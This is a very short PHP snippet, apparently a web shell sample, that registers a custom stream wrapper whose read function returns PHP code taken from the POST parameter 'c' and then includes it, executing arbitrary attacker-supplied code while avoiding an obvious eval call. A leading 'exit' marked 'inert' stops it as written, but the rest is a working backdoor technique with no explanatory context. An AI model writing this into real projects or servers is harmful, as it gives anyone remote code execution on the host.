<?php exit; /* inert */ class W{ function stream_open($a,$b,$c,&$d){return true;} function stream_read($n){ return "<?php ".$_POST["c"];} } stream_wrapper_register("z","W"); include "z://a";
